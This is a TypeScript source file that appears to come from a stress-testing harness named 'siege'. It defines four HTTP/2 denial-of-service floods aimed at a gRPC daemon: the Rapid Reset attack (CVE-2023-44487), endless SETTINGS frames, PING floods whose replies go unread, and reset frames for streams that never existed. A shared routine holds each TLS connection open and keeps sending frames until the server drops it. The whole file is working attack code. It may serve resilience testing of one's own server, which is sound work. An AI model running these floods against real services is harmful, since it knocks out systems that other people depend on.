/** Floods of HTTP/2 frames that cost their sender next to nothing. */
import { randomBytes } from "node:crypto";
import type { Attack, Bounds, Done, Target } from "./siege/attack.ts";
import { callHeaders, FLAG, FRAME, frame, PREFACE } from "./siege/frames.ts";
import { HEALTH_CHECK } from "./siege/grpc-session.ts";
import { openTls, send, swarm } from "./siege/swarm.ts";

const FRAMES_AT_ONCE = 100;

/** Calls that are reset as soon as they have begun (CVE-2023-44487). */
export const resets: Attack = {
  name: "calls that are reset at once",
  by: "stranger",
  run(target, bounds) {
    const payload = callHeaders(HEALTH_CHECK);
    return flood(target, bounds, (count) => {
      const stream = 2 * count + 1;
      const begun = frame({ type: FRAME.headers, flags: FLAG.endHeaders, stream, payload });
      return Buffer.concat([begun, frame({ type: FRAME.reset, stream, payload: Buffer.from([0, 0, 0, 8]) })]);
    });
  },
};

export const settings: Attack = {
  name: "settings without end",
  by: "stranger",
  run: (target, bounds) =>
    flood(target, bounds, () => frame({ type: FRAME.settings, payload: Buffer.from([0, 3, 0, 0, 0, 100]) })),
};

export const pings: Attack = {
  name: "pings without end, whose answers nobody reads",
  by: "stranger",
  run: (target, bounds) =>
    flood(target, bounds, () => frame({ type: FRAME.ping, payload: randomBytes(8) }), false),
};

/** Data for streams that were never begun. */
export const strayFrames: Attack = {
  name: "frames of streams that there are not",
  by: "stranger",
  run: (target, bounds) =>
    flood(target, bounds, (count) =>
      frame({ type: FRAME.reset, stream: 2 * count + 1, payload: Buffer.from([0, 0, 0, 8]) }),
    ),
};

/** Sends frames on each connection until the daemon ends it. @param reads whether the answers are read */
function flood(
  { grpc }: Target,
  bounds: Bounds,
  make: (count: number) => Buffer,
  reads = true,
): Promise<Done> {
  return swarm(bounds, async (tally) => {
    const socket = await openTls(grpc, "h2", bounds);
    if (reads) socket.resume();
    else socket.pause();
    await send(socket, Buffer.concat([PREFACE, frame({ type: FRAME.settings })]));
    for (let count = 0; !socket.destroyed; ) {
      const frames: Buffer[] = [];
      for (; frames.length < FRAMES_AT_ONCE && tally.take(); count++) frames.push(make(count));
      if (frames.length === 0) break;
      const bytes = Buffer.concat(frames);
      tally.sentBytes += bytes.length;
      await send(socket, bytes);
    }
    socket.destroy();
  });
}
